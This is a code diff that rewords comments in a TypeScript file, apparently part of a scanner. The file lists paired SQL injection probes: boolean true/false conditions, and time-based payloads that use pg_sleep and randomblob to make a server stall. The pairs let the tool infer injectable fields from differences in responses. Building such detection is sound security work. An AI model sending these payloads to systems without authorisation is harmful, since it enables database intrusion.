@@ -1,7 +1,4 @@
-/**
- * Two texts of similar length and form that only a server that executes them can tell apart; `{v}` stands for the valid
- * value.
- */
+/** Two similar texts that only a server that executes them can tell apart; `{v}` stands for the valid value. */
 export type PayloadPair = readonly [one: string, other: string];
 
 /** A true and a false condition, or valid and invalid SQL. The first four are enough for the short form. */
@@ -22,10 +19,7 @@ export const truths: readonly PayloadPair[] = [
   ["{v}' AND 'a' LIKE 'a", "{v}' AND 'a' LIKE 'b"],
 ];
 
-/**
- * A text that takes no time, and one that takes three seconds where it is executed. The first three are enough for the
- * short form.
- */
+/** A text that takes no time, and one that takes three seconds if executed. The short form uses the first three. */
 export const sleeps: readonly PayloadPair[] = [
   ["{v}'||(select pg_sleep(0))||'", "{v}'||(select pg_sleep(3))||'"],
   ["{v}' AND hex(randomblob(1))>'", "{v}' AND hex(randomblob(500000000))>'"],
